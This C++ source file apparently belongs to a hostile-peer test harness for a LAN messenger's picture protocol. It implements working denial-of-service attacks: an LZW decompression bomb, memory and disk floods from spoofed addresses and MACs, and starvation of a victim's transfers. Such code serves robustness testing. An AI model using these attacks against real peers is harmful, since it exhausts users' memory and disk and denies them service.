#include "hostile_pictures.h"
#include "hostile.h"

#include "core/Dib.h"
#include "core/Lzw.h"
#include "net/Commands.h"
#include "net/PictureChunk.h"

#include <QElapsedTimer>
#include <QHostAddress>
#include <set>

namespace {

constexpr quint32 kLargeId = 0x5E5E0000;

// The chunks of a picture, a pause now and then so that the receiver's socket
// keeps up.
void sendChunks(RawPeer &peer, quint32 id, const QByteArray &data, qint32 kind, qint32 compression, qint32 purpose = 0)
{
    const quint32 command = purpose == 1 ? CMD_HEAD_PICTURE_DATA : CMD_PICTURE_DATA;
    int n = 0;
    for (const auto &[header, bytes] : PictureChunks(id, data, kind, compression, purpose, 4096)) {
        peer.send(command | OPT_FILE_ATTACH, header, bytes);
        if (++n % 16 == 0)
            peer.collect(2);
    }
}

// A message naming the pictures (each id as often as it is listed).
void name(RawPeer &peer, const QList<quint32> &ids)
{
    QByteArray text;
    for (const quint32 id : ids)
        text += QStringLiteral("/~#>%1<B~").arg(id, 8, 16, QLatin1Char('0')).toLatin1();
    peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, text);
}

// A 24-bit DIB of side x side, its rows a pattern of the seed.
QByteArray patternDib(int side, int seed)
{
    QByteArray dib = makeDibInfoHeader(side, side, 24);
    QByteArray bits(qsizetype(dibStride(side, 24)) * side, '\0');
    for (qsizetype i = 0; i < bits.size(); ++i)
        bits[i] = char((i * 13 + seed * 7) & 0xFF);
    return dib + bits;
}

// The largest picture a peer may send: 7680 x 2160, all black, a few
// kilobytes packed, 50 MB as a bitmap.
QByteArray largest()
{
    return LzwBomb(7680, 2160);
}

void storeLarge(RawPeer &owner, quint32 id)
{
    name(owner, { id });
    sendChunks(owner, id, largest(), 0, 1);
    owner.collect(3000);
}

// The decimal number a body starts with (a receipt names its message so).
quint32 leadingNumber(const QByteArray &body)
{
    qsizetype end = 0;
    while (end < body.size() && body[end] >= '0' && body[end] <= '9')
        ++end;
    return body.left(end).toUInt();
}

// A message naming one picture, and the picture, delivered as a real peer
// does: what has not been receipted or acknowledged goes again every
// kResendMs, under its own number, until everything has arrived or the tries
// are spent. A busy receiver only makes it slower. True when it all arrived.
bool deliver(RawPeer &peer, quint32 id, const QByteArray &data, qint32 kind, qint32 compression)
{
    constexpr int kResendMs = 1000;
    constexpr int kTries = 30;
    const QByteArray text = QStringLiteral("/~#>%1<B~").arg(id, 8, 16, QLatin1Char('0')).toLatin1();
    const auto chunks = PictureChunks(id, data, kind, compression, 0, 4096);
    peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, text);
    const quint32 number = peer.lastNumber();
    std::vector<quint32> chunkNumbers;
    for (const auto &[header, bytes] : chunks) {
        peer.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, bytes);
        chunkNumbers.push_back(peer.lastNumber());
    }
    bool receipted = false;
    std::set<qint32> acked;
    qsizetype seen = 0;
    for (int tries = 0;; ++tries) {
        QElapsedTimer waited;
        waited.start();
        while (waited.elapsed() < kResendMs) {
            peer.collect(20);
            const QList<PacketRecord> &answers = peer.answers();
            for (; seen < answers.size(); ++seen) {
                const PacketRecord &p = answers[seen];
                if (p.command() == CMD_MESSAGE_RECEIVED && leadingNumber(p.body) == number)
                    receipted = true;
                if (p.command() == CMD_PICTURE_ACK)
                    if (const auto ack = PictureChunk::ParseAck(p.body); ack && ack->id == id
                        && ack->chunkNumber >= 1 && ack->chunkNumber <= chunks.size())
                        acked.insert(ack->chunkNumber);
            }
            if (receipted && qsizetype(acked.size()) >= chunks.size())
                return true;
        }
        if (tries == kTries)
            return false;
        if (!receipted)
            peer.resend(number, CMD_SEND_MESSAGE | OPT_SEND_CHECK, text);
        for (qsizetype c = 0; c < chunks.size(); ++c)
            if (!acked.count(qint32(c + 1)))
                peer.resend(chunkNumbers[size_t(c)], CMD_PICTURE_DATA | OPT_FILE_ATTACH, chunks[c].first, chunks[c].second);
    }
}

quint32 address(const QString &text)
{
    return QHostAddress(text).toIPv4Address();
}

int acksOf(const RawPeer &peer)
{
    int acks = 0;
    for (const PacketRecord &p : peer.answers())
        acks += p.command() == CMD_PICTURE_ACK;
    return acks;
}

} // namespace

bool RunPictureAttack(
    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const QString attack = words.value(0);
    const int n = qBound(1, words.value(1).toInt(), 1000);
    if (attack == QLatin1String("storedmem")) {
        RawPeer owner(target, port, QStringLiteral("owner"));
        owner.announce();
        storeLarge(owner, kLargeId);
        qint64 out = 0;
        for (int i = 0; i < n; ++i) {
            RawPeer identity(target, port, QStringLiteral("ident%1").arg(i));
            identity.announce();
            name(identity, QList<quint32>(64, kLargeId));
            const auto chunks = PictureChunks(kLargeId, largest(), 0, 1, 0, 4096);
            identity.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, chunks[0].first, chunks[0].second);
            identity.collect(1500);
            out += identity.bytesOut();
        }
        report(QStringLiteral("STOREDMEM identities %1 out %2").arg(n).arg(out));
        return true;
    }
    if (attack == QLatin1String("storedmix")) {
        RawPeer peer(target, port, QStringLiteral("mixer"));
        peer.announce();
        storeLarge(peer, kLargeId + 1);
        QList<quint32> tiny;
        for (quint32 i = 0; i < 130; ++i) {
            tiny.append(0x7100 + i);
            name(peer, { tiny.last() });
            sendChunks(peer, tiny.last(), patternDib(8, int(i)), 1, 0);
            peer.collect(20);
        }
        peer.collect(2000);
        peer.reset();
        for (int m = 0; m < n; ++m) {
            QList<quint32> ids { kLargeId + 1 };
            for (int k = 0; k < 63; ++k)
                ids.append(tiny[(m * 63 + k) % tiny.size()]);
            name(peer, ids);
            peer.collect(300);
        }
        report(QStringLiteral("STOREDMIX messages %1 out %2").arg(n).arg(peer.bytesOut()));
        return true;
    }
    if (attack == QLatin1String("newlarge")) {
        // N messages, each naming a new picture of the largest size, each
        // sent after the last was receipted and acknowledged; the picture ids
        // count on from the FIRST given. From port 2430, so that every run is
        // the same peer, whose window a user can open.
        RawPeer peer(target, port, QStringLiteral("wide"), 0, 2430);
        const quint32 first = quint32(qBound(0, words.value(2).toInt(), 0xFFFF));
        peer.setNumber(5000000 + first * 16); // a picture takes 5 packets
        peer.announce();
        const QByteArray picture = largest();
        int delivered = 0;
        for (int i = 0; i < n; ++i)
            delivered += deliver(peer, kLargeId + 0x10000 + first + quint32(i), picture, 0, 1) ? 1 : 0;
        report(QStringLiteral("NEWLARGE messages %1 delivered %2 out %3").arg(n).arg(delivered).arg(peer.bytesOut()));
        return true;
    }
    if (attack == QLatin1String("diskflood")) {
        qint64 out = 0;
        int k = 0;
        for (const QString &from : words.mid(1)) {
            RawPeer peer(target, port, QStringLiteral("flood%1").arg(k), address(from));
            peer.announce();
            for (int i = 0; i < 2; ++i)
                storeLarge(peer, 0x6D000000 + quint32(k) * 16 + quint32(i));
            out += peer.bytesOut();
            ++k;
        }
        report(QStringLiteral("DISKFLOOD addresses %1 pictures %2 out %3").arg(k).arg(2 * k).arg(out));
        return true;
    }
    if (attack == QLatin1String("victim")) {
        const quint32 id = words.value(1).toUInt(nullptr, 16);
        RawPeer peer(target, port, QStringLiteral("victim%1").arg(id, 0, 16), address(words.value(2)));
        peer.announce();
        const QByteArray picture = patternDib(48, int(id));
        const int chunks = int(PictureChunks(id, picture, 1, 0, 0, 4096).size());
        name(peer, { id });
        sendChunks(peer, id, picture, 1, 0);
        peer.collect(2000);
        report(QStringLiteral("VICTIM %1 acks %2 for %3 chunks").arg(id, 8, 16, QLatin1Char('0')).arg(acksOf(peer)).arg(chunks));
        return true;
    }
    if (attack == QLatin1String("headmacs")) {
        RawPeer peer(target, port, QStringLiteral("headmacs"));
        for (int i = 0; i < n; ++i) {
            peer.setMac(QStringLiteral("02CD%1").arg(i, 8, 16, QLatin1Char('0')).toUpper());
            peer.announce();
            sendChunks(peer, 0x4E00 + quint32(i), LzwCompressGlobal(patternDib(64, i)), 1, 1, 1);
            peer.collect(100);
        }
        report(QStringLiteral("HEADMACS %1 out %2").arg(n).arg(peer.bytesOut()));
        return true;
    }
    if (attack == QLatin1String("starvemany")) {
        const QStringList hogs = words.mid(1, words.size() - 2);
        std::vector<std::unique_ptr<RawPeer>> peers;
        for (const QString &from : hogs) {
            peers.push_back(std::make_unique<RawPeer>(target, port, QStringLiteral("hog%1").arg(peers.size()), address(from)));
            peers.back()->announce();
        }
        // Each hog address opens 40 pictures of 4 MB and feeds them a new
        // chunk each round.
        auto feed = [&](int chunk) {
            for (size_t h = 0; h < peers.size(); ++h) {
                for (quint32 p = 0; p < 40; ++p) {
                    const QByteArray header = QStringLiteral("%1|4000000|%2|7813|%3|512|1|0|0|00000000#")
                                                  .arg(0x6100 + quint32(h) * 64 + p, 8, 16, QLatin1Char('0'))
                                                  .arg(chunk * 512)
                                                  .arg(chunk + 1)
                                                  .toLatin1();
                    peers[h]->send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, QByteArray(512, 'h'));
                }
                peers[h]->collect(2);
            }
        };
        for (int chunk = 0; chunk < 40; ++chunk)
            feed(chunk);
        RawPeer victim(target, port, QStringLiteral("starved"), address(words.last()));
        victim.announce();
        const QByteArray picture = patternDib(300, 5); // about 270 KB: many chunks
        const int chunks = int(PictureChunks(0x7778, picture, 1, 0, 0, 4096).size());
        name(victim, { 0x7778 });
        sendChunks(victim, 0x7778, picture, 1, 0);
        for (int chunk = 40; chunk < 45; ++chunk)
            feed(chunk);
        victim.collect(1500);
        report(QStringLiteral("STARVEMANY hogs %1 victim-acks %2 for %3 chunks").arg(hogs.size()).arg(acksOf(victim)).arg(chunks));
        return true;
    }
    return false;
}
